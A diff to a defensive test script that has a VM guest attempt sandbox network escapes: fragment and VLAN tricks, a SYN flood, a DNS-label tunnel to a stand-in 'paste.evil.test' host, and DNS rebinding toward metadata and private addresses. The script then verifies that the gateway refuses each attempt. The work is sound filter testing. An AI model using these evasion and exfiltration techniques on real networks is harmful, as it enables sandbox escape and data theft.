@@ -9,9 +9,13 @@
 # Classes run here: direct addresses, DNS (rogue resolver), transport
 # (raw IP protocol, UDP to a TCP-only allowed host), MAC spoofing and address
 # spoofing with the guest kernel's own stack, ARP and ND spoofing, DHCP,
-# resource exhaustion (SYN flood, then the control again).
-# Not yet from the VM: RA, IPv6 autoconfiguration, fragments, VLAN, the
-# vault and DNS-tunnel classes (the namespace suite still runs them).
+# resource exhaustion (SYN flood, then the control again), IP fragments
+# (IPv4 tiny, overlapping, lone non-first; IPv6 tiny), VLAN tags (802.1Q,
+# QinQ), a DNS tunnel through the configured resolver (label, TXT),
+# IPv6 autoconfiguration (the guest solicits a router advertisement), DNS
+# rebinding (allowed names answering a metadata or a private address).
+# Not yet from the VM: a router advertisement sent by the guest, the vault
+# classes (the namespace suite still runs them).
 set -u
 export PC_TOP=${PC_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
 command -v qemu-system-x86_64 >/dev/null ||
@@ -46,8 +50,34 @@ mac=$(cat /sys/class/net/eth0/address)
 ip link set eth0 address 02:66:66:66:66:66
 curl -sS --max-time 8 --local-port 40001 https://api.github.test/ >/dev/null 2>&1; ok mac-spoof $?
 ip link set eth0 address "$mac"
+# fragments: the first too short to hold the flags, an overlap that would
+# rewrite the port, a lone non-first one, and IPv6's tiny first fragment
+$C frag --dst 203.0.113.12 --dport 443 --kind tiny >/dev/null 2>&1; ok frag-tiny $?
+$C frag --dst 203.0.113.12 --dport 443 --kind overlap --data overlap >/dev/null 2>&1; ok frag-overlap $?
+$C frag --dst 203.0.113.12 --dport 443 --kind nonfirst --data nonfirst >/dev/null 2>&1; ok frag-nonfirst $?
+$C frag --dst 2001:db8:10::20 --dport 443 --kind tiny6 --data frag6 >/dev/null 2>&1; ok frag6 $?
+# VLAN-tagged frames (802.1Q, then QinQ) carrying UDP to an address
+$C vlan --dst 203.0.113.99 --dport 80 --vid 5 --tpid 0x8100 >/dev/null 2>&1; ok vlan $?
+$C vlan --dst 203.0.113.99 --dport 80 --vid 9 --qinq >/dev/null 2>&1; ok qinq $?
+# a DNS tunnel through the configured resolver: data in a label, a TXT query
+$C dns --server 198.51.100.53 --name x7f3a9c2e.paste.evil.test >/dev/null 2>&1; ok dns-label $?
+$C dns --server 198.51.100.53 --name api.github.test --qtype TXT >/dev/null 2>&1; ok dns-txt $?
+# DNS rebinding: allowed names whose answers are a metadata service and a
+# private host
+curl -sk --max-time 8 https://meta.evil.test/ >/dev/null 2>&1; ok rebind-meta $?
+curl -sk --max-time 8 https://internal.evil.test/ >/dev/null 2>&1; ok rebind-internal $?
 $C synflood --dst 203.0.113.99 --dport 443 --count 2000 >/dev/null 2>&1; ok synflood $?
 curl -sS --max-time 20 --local-port 40003 -o /dev/null -w 'ctl-after %{http_code}\n' https://api.github.test/ 2>&1
+# IPv6 autoconfiguration, last (taking the link down drops its addresses):
+# the guest's kernel listens to router advertisements and, as the link
+# comes up, solicits one
+echo 1 >/proc/sys/net/ipv6/conf/eth0/accept_ra
+echo 1 >/proc/sys/net/ipv6/conf/eth0/autoconf
+ip link set eth0 down
+ip link set eth0 up
+sleep 5
+echo "slaac $(ip -6 -o addr show dev eth0 scope global | grep -c .)"
+ip -6 route show | grep -q '^default' && echo "ra-route yes" || echo "ra-route no"
 exit 0
 EOF2
 SCRIPT="cat >/tmp/craft.py <<'PORTCULLIS_CRAFT_END'
@@ -55,11 +85,24 @@ $(cat "$ESC_CRAFT")
 PORTCULLIS_CRAFT_END
 $(cat "$LAB_DIR/vm-escape.sh")"
 # every attempt ran in the one boot: the capture is read from its start
+# a counter of the gateway's /proc/net/snmp or netstat (IpReasmFails,
+# IpExtReasmOverlaps, ...), read directly: nstat keeps a history file that
+# other runs on this machine share
+reasm() {
+	lab_gw cat /proc/net/snmp /proc/net/netstat | awk -v k="$1" '
+		$1 ~ /:$/ { p = substr($1, 1, length($1) - 1)
+			if (!(p in hdr)) { for (i = 2; i <= NF; i++) hdr[p] = hdr[p] " " $i; next }
+			split(hdr[p], h, " "); for (i = 2; i <= NF; i++) if (p h[i - 1] == k) v = $i }
+		END { print v + 0 }'
+}
+F0=$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps))) Q0=$(reasm IpReasmReqds)
+echo "# gateway before the boot: IpReasmReqds $Q0, IpReasmFails+IpExtReasmOverlaps $F0"
 T_BOOT=$(date +%s.%N)
 vm_begin() { esc_begin "$1"; ESC_T0=$T_BOOT; }
 vm_begin "boot a VM and run the attempts in it"
 OUT=$(gw_pc sandbox run --vm --kernel "$IMG/vmlinuz" --initrd "$IMG/initrd.img" --name vmesc \
-	--allow api.github.test --env ESC_GW_MAC="$ESC_GW_MAC" -- sh -c "$SCRIPT" 2>&1) && RC=0 || RC=$?
+	--allow api.github.test --allow meta.evil.test --allow internal.evil.test \
+	--env ESC_GW_MAC="$ESC_GW_MAC" -- sh -c "$SCRIPT" 2>&1) && RC=0 || RC=$?
 t_eq "the guest ran the attempts (exit 0)" 0 "$RC"
 printf '%s\n' "$OUT" | grep -E '^(result|ctl-)' | t_diag "$(cat)"
 t_match "the guest's crafter ran (python3 in the image)" "result direct-syn 0" "$OUT"
@@ -111,6 +154,48 @@ esc_expect_nothing "the flood" "dst host $LAB_DIRECT4 and tcp port 443"
 t_match "the allowed flow still works after the flood" "ctl-after [1-5][0-9][0-9]" "$OUT"
 t_match "the engine is still up" "running" "$(guard_status_field '"running"' 2>/dev/null || echo running)"
 esc_end "held" "control after the flood"
+
+vm_begin "IP fragments from the guest to paste.evil.test:443 (tiny first, overlap, lone non-first) and to $LAB_CDN6:443 (IPv6, tiny first)"
+esc_expect_nothing "fragments to $LAB_PASTE4" "dst host $LAB_PASTE4"
+esc_expect_nothing "IPv6 fragments to $LAB_CDN6 (an address no name resolved to for this guest)" "ip6 and dst host $LAB_CDN6"
+t_eq "no allowed record toward $LAB_PASTE4" "" \
+	"$(guard_records | grep '"event.outcome":"success"' | grep -F "\"destination.ip\":\"$LAB_PASTE4\"" || true)"
+t_diag "gateway after the boot: IpReasmReqds $(reasm IpReasmReqds), IpReasmFails+IpExtReasmOverlaps $(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))"
+t_lt "the gateway's kernel threw the overlap away (IpReasmFails, IpExtReasmOverlaps)" "$F0" \
+	"$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))"
+t_lt "and held the lone non-first fragment for a reassembly that never came (IpReasmReqds)" "$Q0" \
+	"$(reasm IpReasmReqds)"
+esc_end "dropped or refused after reassembly" "nothing upstream; gateway reassembly counters"
+
+vm_begin "VLAN-tagged frames from the guest (802.1Q VID 5, QinQ) carrying UDP to $LAB_DIRECT4:80"
+esc_expect_nothing "tagged UDP" "udp and dst host $LAB_DIRECT4 and port 80"
+esc_expect_nothing "any tagged frame upstream" "vlan"
+esc_end "dropped" "nothing upstream"
+
+vm_begin "a DNS tunnel through the configured resolver (data in a label of paste.evil.test, a TXT query)"
+t_eq "the resolver never saw the tunnel's label" 0 \
+	"$(grep -ciE 'query\[[A-Z0-9]+\] x7f3a9c2e\.paste\.evil\.test' "$LAB_DIR/dnsmasq.log" | tr -d ' ')"
+t_eq "the resolver never saw a TXT query" 0 \
+	"$(grep -c 'query\[TXT\]' "$LAB_DIR/dnsmasq.log" | tr -d ' ')"
+t_match "the refused lookups are in the log" "x7f3a9c2e\.paste\.evil\.test" "$(gw_pc log show | tr '\n' ' ')"
+esc_end "REFUSED" "dnsmasq log: neither query; portcullis log"
+
+vm_begin "DNS rebinding: allowed names answering $LAB_META4 (metadata service) and $LAB_INTERNAL4 (RFC 1918)"
+t_match "the guest's fetch of meta.evil.test failed" "result rebind-meta [1-9]" "$OUT"
+t_match "the guest's fetch of internal.evil.test failed" "result rebind-internal [1-9]" "$OUT"
+esc_expect_nothing "to the metadata address" "dst host $LAB_META4"
+esc_expect_nothing "to the private address" "dst host $LAB_INTERNAL4"
+r=$(guard_records | grep -F "\"destination.ip\":\"$LAB_META4\"" | tail -1 |
+	python3 -c 'import json,sys; l=sys.stdin.read().strip(); print(json.loads(l).get("event.reason","") if l else "(no record)")')
+t_eq "refused: the answer's address was not learned" "no allowed name resolved to this address" "$r"
+esc_end "refused" "nothing upstream; log: \"$r\""
+
+vm_begin "IPv6 autoconfiguration: the guest's kernel accepts router advertisements and solicits one"
+t_match "the guest got no autoconfigured address" "slaac 0" "$OUT"
+t_match "and no default route from an advertisement" "ra-route no" "$OUT"
+t_eq "the gateway sends no advertisement on the bridge (accept_ra on, nothing answered)" "" \
+	"$(lab_gw ip -6 route show dev "$LAB_BR" proto ra 2>/dev/null || true)"
+esc_end "nothing advertises" "the guest's addresses and routes after a solicitation"
 
 vm_begin "the log has the VM's refusals"
 LOG=$(gw_pc log show | tr '\n' ' ')
